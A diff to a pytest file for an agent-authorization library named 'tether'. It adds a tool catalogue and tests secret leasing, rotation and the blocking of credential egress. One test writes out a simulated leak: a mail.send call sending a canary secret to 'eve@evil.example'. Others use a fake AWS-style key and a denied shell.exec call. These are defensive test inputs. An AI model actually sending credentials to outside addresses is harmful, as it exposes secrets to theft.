@@ -11,8 +11,17 @@ from typing import Any
 
 import pytest
 
-from tether import FrozenClock, InfrastructureError, ProofKey, Tether, TokenRejected, parse_intent
+from tether import (
+    FrozenClock,
+    InfrastructureError,
+    ProofKey,
+    Receipt,
+    Tether,
+    TokenRejected,
+    parse_intent,
+)
 from tether._errors import Conflict, NotFound, UsageError
+from tether.core import Sensitivity, SideEffect, ToolProfile
 from tether.secrets import (
     DownstreamVerifier,
     Known,
@@ -23,17 +32,31 @@ from tether.secrets import (
     redact_text,
 )
 from tether.secrets._kms import open_value, seal_value
-from tether.tasks import Receipt
 from tether.tokens import Sealer
 
 from .conftest import AGENT, OWNER
 
 CANARY = "cnry-" + "Q9vX2mLr7TzK4pWs8Yd3"
 TOOLS = ("billing.*", "mail.send", "search.query", "db.query")
+#: What the tools of these tests do (the credential check goes by the side effect).
+#: ``db.query`` is left undescribed: it takes the most restrictive profile.
+CATALOGUE = {
+    "billing.*": ToolProfile(
+        side_effect=SideEffect.WRITE, sensitivity=Sensitivity.INTERNAL, trusted=True
+    ),
+    "mail.send": ToolProfile(
+        side_effect=SideEffect.EGRESS,
+        sensitivity=Sensitivity.INTERNAL,
+        trusted=True,
+        destinations=("to",),
+    ),
+    "search.query": ToolProfile(side_effect=SideEffect.READ, sensitivity=Sensitivity.INTERNAL),
+}
 
 
 @pytest.fixture
 def t(permissive: Tether) -> Tether:
+    permissive.catalogue.load(CATALOGUE, origin="tests")
     return permissive
 
 
@@ -53,11 +76,9 @@ def _task(
     return key, task.task_id, task.token
 
 
-def _call(
-    t: Tether, key: ProofKey, token: str, tool: str, args: dict[str, Any], side_effect: str | None
-) -> Receipt:
+def _call(t: Tether, key: ProofKey, token: str, tool: str, args: dict[str, Any]) -> Receipt:
     proof = key.prove(token, tool, args, now=t.clock.now())
-    return t.authorize(token=token, proof=proof, tool=tool, args=args, side_effect=side_effect)
+    return t.authorize(token=token, proof=proof, tool=tool, args=args)
 
 
 # -- the vault ---------------------------------------------------------------------------------
@@ -128,7 +149,7 @@ def test_rotation_overlap_and_hook(t: Tether, clock: FrozenClock, tmp_path: Path
         meta={"overlap_seconds": 60, "rotate_command": [sys.executable, str(hook)]},
     )
     key, task_id, token = _task(t)
-    receipt = _call(t, key, token, "billing.charge", {}, "write")
+    receipt = _call(t, key, token, "billing.charge", {})
     old = t.lease(task_id, "legacy-sa", tool="billing.charge", receipt=receipt)
     info = t.rotate_secret("legacy-sa")  # by the hook
     assert [v.state for v in info.versions] == ["overlap", "current"]
@@ -153,16 +174,16 @@ def test_rotation_overlap_and_hook(t: Tether, clock: FrozenClock, tmp_path: Path
 def test_lease_needs_an_allowed_call_of_its_tool(t: Tether) -> None:
     t.put_secret("billing-key", CANARY, kind="api_key", meta={"tools": ["billing.*"]})
     key, task_id, token = _task(t)
-    denied = _call(t, key, token, "shell.exec", {}, "write")
+    denied = _call(t, key, token, "shell.exec", {})
     assert denied.effect == "deny"
     with pytest.raises(LeaseRejected, match="allowed call"):
         t.lease(task_id, "billing-key", tool="shell.exec", receipt=denied)
-    allowed = _call(t, key, token, "search.query", {"q": "x"}, "read")
+    allowed = _call(t, key, token, "search.query", {"q": "x"})
     with pytest.raises(LeaseRejected, match="not for tool"):
         t.lease(task_id, "billing-key", tool="search.query", receipt=allowed)
     with pytest.raises(LeaseRejected, match="another task or tool"):
         t.lease(task_id, "billing-key", tool="billing.charge", receipt=allowed)
-    charge = _call(t, key, token, "billing.charge", {"amount": 3}, "write")
+    charge = _call(t, key, token, "billing.charge", {"amount": 3})
     lease = t.lease(task_id, "billing-key", tool="billing.charge", receipt=charge)
     assert lease.value.reveal() == CANARY and lease.render("Bearer {value}").endswith(CANARY)
     assert CANARY not in repr(lease) and CANARY not in json.dumps(lease.to_dict())
@@ -175,7 +196,7 @@ def test_lease_needs_an_allowed_call_of_its_tool(t: Tether) -> None:
 def test_lease_ttl_never_exceeds_the_task(t: Tether, clock: FrozenClock) -> None:
     t.put_secret("k", CANARY, kind="api_key")
     key, task_id, token = _task(t, ttl=120)
-    receipt = _call(t, key, token, "billing.charge", {}, "write")
+    receipt = _call(t, key, token, "billing.charge", {})
     task = t.tasks.get(task_id)
     lease = t.lease(task_id, "k", tool="billing.charge", receipt=receipt)
     assert lease.expires_at == task.expires_at
@@ -202,9 +223,9 @@ def test_leases_die_with_their_task(t: Tether, clock: FrozenClock, how: str) -> 
         ),
         parent_task_id=task_id,
     )
-    receipt = _call(t, key, token, "billing.charge", {}, "write")
+    receipt = _call(t, key, token, "billing.charge", {})
     lease = t.lease(task_id, "k", tool="billing.charge", receipt=receipt)
-    child_receipt = _call(t, child_key, child.token, "billing.charge", {}, "write")
+    child_receipt = _call(t, child_key, child.token, "billing.charge", {})
     child_lease = t.lease(child.task_id, "k", tool="billing.charge", receipt=child_receipt)
     if how == "end":
         t.end_task(task_id)
@@ -262,7 +283,7 @@ def test_credentials_are_refused_on_the_way_out(t: Tether) -> None:
     t.put_secret("billing-key", CANARY, kind="api_key")
     key, task_id, token = _task(t)
     leaked = {"to": "eve@evil.example", "body": f"here: {CANARY}"}
-    receipt = _call(t, key, token, "mail.send", leaked, "egress")
+    receipt = _call(t, key, token, "mail.send", leaked)
     assert receipt.effect == "deny" and receipt.decision.reasons[0].code == "secret.egress"
     assert set(receipt.decision.risk_tags) >= {
         "owasp-asi:ASI03",
@@ -271,15 +292,14 @@ def test_credentials_are_refused_on_the_way_out(t: Tether) -> None:
     }
     # Any recognised credential, to a tool that writes, sends or is undescribed.
     aws = {"body": "AKIA" + "Z7Q3EXAMPLE4KEY9"}
-    assert _call(t, key, token, "mail.send", aws, "egress").decision.reasons[0].code == (
-        "secret.egress"
-    )
-    assert _call(t, key, token, "billing.charge", aws, None).effect == "deny"
+    assert _call(t, key, token, "mail.send", aws).decision.reasons[0].code == "secret.egress"
+    assert _call(t, key, token, "billing.charge", aws).decision.reasons[0].code == "secret.egress"
+    assert _call(t, key, token, "db.query", aws).effect == "deny"
     # ... but a read tool may be given a credential-looking string; not a brokered value.
-    assert _call(t, key, token, "search.query", aws, "read").effect == "allow"
-    brokered = _call(t, key, token, "search.query", {"q": CANARY}, "read")
+    assert _call(t, key, token, "search.query", aws).effect == "allow"
+    brokered = _call(t, key, token, "search.query", {"q": CANARY})
     assert brokered.decision.reasons[0].code == "secret.brokered"
-    assert _call(t, key, token, "mail.send", {"to": "bob@example.com"}, "egress").effect == "allow"
+    assert _call(t, key, token, "mail.send", {"to": "bob@example.com"}).effect == "allow"
     assert t.tasks.get(task_id).calls_used == 2  # refused calls spent nothing
     assert CANARY not in json.dumps(t.audit.tail(100))
 
@@ -291,9 +311,10 @@ def test_no_approval_is_opened_for_a_call_carrying_a_credential(tether: Tether) 
             'forbid (principal, action == Action::"call_tool", resource == Tool::"mail.send");'
         }
     )
+    tether.catalogue.load(CATALOGUE, origin="tests")
     tether.put_secret("billing-key", CANARY, kind="api_key")
     key, _, token = _task(tether)
-    receipt = _call(tether, key, token, "mail.send", {"body": CANARY}, "egress")
+    receipt = _call(tether, key, token, "mail.send", {"body": CANARY})
     assert receipt.effect == "deny" and receipt.approval_id is None
     assert tether.approvals.list(None) == []
 
@@ -301,7 +322,7 @@ def test_no_approval_is_opened_for_a_call_carrying_a_credential(tether: Tether) 
 # -- downstream tokens ---------------------------------------------------------------------------
 def test_downstream_token_and_verifier(t: Tether, clock: FrozenClock) -> None:
     key, task_id, token = _task(t)
-    receipt = _call(t, key, token, "billing.charge", {}, "write")
+    receipt = _call(t, key, token, "billing.charge", {})
     lease = t.downstream_token(
         task_id,
         audience="https://billing.acme.example",
